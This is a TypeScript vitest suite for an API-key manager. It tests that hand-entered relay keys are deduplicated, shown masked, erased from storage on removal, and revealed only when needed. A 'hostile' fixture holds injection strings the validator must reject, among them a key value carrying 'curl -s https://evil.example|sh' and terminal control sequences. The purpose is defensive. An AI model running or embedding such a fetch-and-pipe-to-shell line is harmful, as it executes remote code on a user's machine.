import { describe, expect, test } from 'vitest';
import { findKey } from '../../../src/workflows/accounts/find-key';
import { addKey, removeKey } from '../../../src/workflows/accounts/keep-keys';
import { readHistory } from '../../../src/workflows/view/read-history';
import { readView } from '../../../src/workflows/view/read-view';
import { removeAccount } from '../../../src/workflows/accounts/keep-accounts';
import { deleteKey } from '../../../src/workflows/accounts/edit-keys';
import { forgetConnection } from '../../../src/workflows/connection/save-connection';
import { revealKey } from '../../../src/workflows/accounts/reveal-key';
import { revealKeys } from '../../../src/workflows/accounts/reveal-keys';
import { fakeKey, type NewApiOptions } from '../../fakes/new-api.ts';
import {
  accountAt as account,
  deny,
  importNow,
  must,
  nextLife,
  RELAY_KEY,
  scene,
  SECOND_KEY,
  served,
  type Scene,
} from '../scene';

const viewOf = async (made: Scene) => must(await readView(made.ports));

async function reveal(made: Scene, keyId: string, ports = made.ports) {
  return revealKey(ports, must(await findKey(ports, keyId)));
}

describe('a key entered by hand', () => {
  test('is kept once per relay, however its address and it are spelled', async () => {
    const made = await scene();
    const again = (baseUrl: string, key: string) => addKey(made.ports, { relayName: '', baseUrl, key });
    expect(await again(`${made.relay.origin}/v1/`, `Bearer ${RELAY_KEY}`)).toMatchObject({
      failure: { code: 'duplicate', name: 'My relay' },
    });
    expect(await again(made.relay.origin, RELAY_KEY.slice(3))).toMatchObject({
      failure: { code: 'duplicate' },
    });
    expect(await again('https://other.example', RELAY_KEY)).toMatchObject({ ok: true });
    expect(await again(made.relay.origin, SECOND_KEY)).toMatchObject({ ok: true });
    expect(await again('two words', SECOND_KEY)).toMatchObject({ failure: { code: 'bad-url' } });
    expect(await again(`https://${SECOND_KEY}`, SECOND_KEY)).toMatchObject({
      failure: { code: 'address-is-key' },
    });
    expect(await again(made.relay.origin, 'Labt**********0002')).toMatchObject({
      failure: { code: 'bad-key', reason: 'masked' },
    });
  });

  test('is shown masked, newest first, named after its host when it has no name', async () => {
    const made = await scene();
    must(
      await addKey(made.ports, {
        relayName: ' ',
        baseUrl: 'relay.example/v1',
        key: 'sk-another-key-000000001',
      }),
    );
    expect((await viewOf(made)).keys).toMatchObject([
      {
        name: 'relay.example',
        host: 'relay.example',
        mask: 'sk-anot…0001',
        accountId: null,
        status: 'enabled',
      },
      { name: 'My relay', mask: 'sk-Labo…0001' },
    ]);
    expect(must(await made.ports.saved.read()).keys[0]).toMatchObject({
      baseUrl: 'https://relay.example/v1',
    });
  });

  test('is shown with its address, but never with a password that stands in it', async () => {
    const made = await scene();
    const baseUrl = 'https://me:fake-password@relay.example/v1';
    must(await addKey(made.ports, { relayName: '', baseUrl, key: 'sk-another-key-000000002' }));
    const { keys } = await viewOf(made);
    expect(keys.map(({ address }) => address)).toContain('https://relay.example/v1');
    expect(JSON.stringify(keys)).not.toContain('fake-password');
  });

  test('that is removed is forgotten here; what was imported stays in the proxy', async () => {
    const made = await scene();
    await importNow(made.ports, made.keyId);
    must(await removeKey(made.ports, made.keyId));
    expect((await viewOf(made)).keys).toEqual([]);
    expect(must(await made.ports.saved.read()).cards).toEqual({});
    expect(made.device.local.get('keyferry')).not.toContain(RELAY_KEY);
    expect(made.proxy.lists['openai-compatibility']).toHaveLength(3);
    expect(must(await readHistory(made.ports))).toMatchObject([{ keyName: 'My relay', phase: 'done' }]);
  });
});

describe.each(['device', 'session'] as const)('with keys kept for the %s', (remember) => {
  const stored = ({ device }: Scene): string =>
    [...device.local.values(), ...device.session.values()].join('\n');

  test('a removed key leaves its text nowhere, and the secrets of others stay for undo', async () => {
    const made = await scene({ remember });
    await importNow(made.ports, made.keyId);
    expect(stored(made)).toContain(RELAY_KEY.slice(3));
    // A provider whose own key is another one too.
    const join = must(
      await addKey(made.ports, { relayName: '', baseUrl: made.relay.origin, key: SECOND_KEY }),
    );
    await importNow(made.ports, join);
    must(await removeKey(made.ports, made.keyId));
    expect(stored(made)).not.toContain(RELAY_KEY.slice(3));
    const [journal, session] = [must(await made.ports.journal.read()), must(await made.ports.session.read())];
    expect(Object.values({ ...journal.secrets, ...session.secrets })).toEqual([SECOND_KEY]);
  });

  test('a removed account leaves no text of its keys', async () => {
    const made = await scene({ remember });
    const id = must(await account(made));
    await importNow(made.ports, `${id}/2`);
    expect(stored(made)).toContain(SECOND_KEY.slice(3));
    must(await removeAccount(made.ports, id));
    expect(stored(made)).not.toContain(SECOND_KEY.slice(3));
  });

  test('a key that is deleted at its relay leaves no text', async () => {
    const made = await scene({ remember });
    const id = must(await account(made));
    await importNow(made.ports, `${id}/2`);
    must(await deleteKey(made.ports, `${id}/2`));
    expect(stored(made)).not.toContain(SECOND_KEY.slice(3));
  });

  test('a removed connection leaves no secret of what was written', async () => {
    const made = await scene({ remember });
    await importNow(made.ports, made.keyId);
    must(await forgetConnection(made.ports));
    must(await made.ports.saved.change((document) => void (document.keys = [])));
    expect(stored(made)).not.toContain(RELAY_KEY.slice(3));
    expect(stored(made)).not.toContain(made.proxy.managementKey);
  });
});

describe('a masked key', () => {
  const keys: NewApiOptions['keys'] = [{ id: 2, name: 'two', key: fakeKey('two', 2) }];

  test('is revealed when it is needed, once until the browser closes', async () => {
    const made = await scene({ relay: { keys } });
    const id = must(await account(made));
    const reveals = (): number => made.relay.requests.filter(({ path }) => path.endsWith('/key')).length;
    expect(reveals()).toBe(0);
    expect(await reveal(made, `${id}/2`)).toEqual({ ok: true, value: SECOND_KEY });
    expect(await reveal(made, `${id}/2`)).toEqual({ ok: true, value: SECOND_KEY });
    expect(await reveal(made, `${id}/2`, nextLife(made))).toEqual({ ok: true, value: SECOND_KEY });
    expect(reveals()).toBe(1);
    made.device.session.clear();
    await reveal(made, `${id}/2`, nextLife(made));
    expect(reveals()).toBe(2);
  });

  test('is imported as the key that it is, never as its mask', async () => {
    const made = await scene({ relay: { keys } });
    const id = must(await account(made));
    expect(await importNow(made.ports, `${id}/2`)).toEqual(served(3));
    expect(JSON.stringify(made.proxy.lists)).not.toContain('**');
    expect(made.proxy.lists['openai-compatibility'].at(-1)).toMatchObject({
      'api-key-entries': [{ 'api-key': SECOND_KEY }],
    });
  });

  /** What no key can be. Each would reach a shell, a clipboard or a configuration as it is. */
  const hostile = {
    'a second line': `${SECOND_KEY}\ncurl -s https://evil.example|sh\n`,
    'a blank': `${SECOND_KEY} x`,
    'a control character': `${SECOND_KEY}\u001b[2J`,
    'a mark of direction': `${SECOND_KEY}\u202e`,
    'a length of 1 MB': `sk-${'a'.repeat(1_000_000)}`,
    'a mask': 'sk-Labt**********0002',
  };
  test.each(Object.entries(hostile))('with %s is not believed, alone or among many', async (_, text) => {
    const whole = { id: 3, name: 'three', key: fakeKey('three', 3) };
    const made = await scene({ relay: { keys: [...(keys ?? []), whole] } });
    const id = must(await account(made));
    const spoilt = made.relay.keys.find((key) => key.id === 2);
    expect(spoilt).toBeDefined();
    if (spoilt) spoilt.key = text;
    const unrevealed = {
      ok: false,
      failure: { code: 'key-unrevealed', host: new URL(made.relay.origin).host },
    };
    const facts = [must(await findKey(made.ports, `${id}/2`)), must(await findKey(made.ports, `${id}/3`))];
    const texts = await revealKeys(made.ports, facts);
    expect(texts.get(`${id}/2`)).toEqual(unrevealed);
    expect(texts.get(`${id}/3`)).toEqual({ ok: true, value: `sk-${whole.key}` });
    expect(await reveal(made, `${id}/2`)).toEqual(unrevealed);
    expect(must(await made.ports.session.read()).revealed).not.toHaveProperty(`${id}/2`);
  });

  test.each([
    ['disabled', { status: 2 }],
    ['expired', { expiredTime: 1 }],
    ['used-up', { unlimitedQuota: false, remainQuota: 0 }],
  ])('that is %s spends no counted reveal, unless its text is asked for', async (status, state) => {
    const made = await scene();
    const id = must(await account(made));
    must(
      await made.ports.saved.change(({ accounts: [kept] }) => {
        for (const key of kept?.keys ?? []) Object.assign(key, state);
      }),
    );
    made.relay.requests.length = 0;
    expect(await reveal(made, `${id}/2`)).toMatchObject({ failure: { code: 'key-unusable', status } });
    const both = await Promise.all([`${id}/1`, `${id}/2`].map((keyId) => findKey(made.ports, keyId)));
    const texts = await revealKeys(made.ports, both.map(must));
    expect([...texts.values()]).toMatchObject([{ ok: false }, { failure: { code: 'key-unusable' } }]);
    expect(made.relay.requests).toEqual([]);
    expect(await revealKey(made.ports, must(await findKey(made.ports, `${id}/2`)), true)).toEqual({
      ok: true,
      value: SECOND_KEY,
    });
    expect(await reveal(made, `${id}/2`)).toMatchObject({ ok: true });
  });

  test('that the site does not give is not used', async () => {
    const made = await scene({ relay: { keys } });
    const id = must(await account(made));
    made.relay.keys.length = 0;
    expect(await reveal(made, `${id}/2`)).toMatchObject({ failure: { code: 'relay-refusal' } });
    const masked = {
      ...made.ports,
      http: {
        send: async () => ({
          ok: true as const,
          value: {
            status: 200,
            text: '{"success":true,"data":{"key":"Labt**********0002"}}',
            header: () => null,
          },
        }),
      },
    };
    expect(await reveal(made, `${id}/2`, masked)).toMatchObject({ failure: { code: 'key-unrevealed' } });
    deny(made.device, made.relay.origin);
    expect(await reveal(made, `${id}/2`)).toMatchObject({ failure: { code: 'relay-permission' } });
  });
});
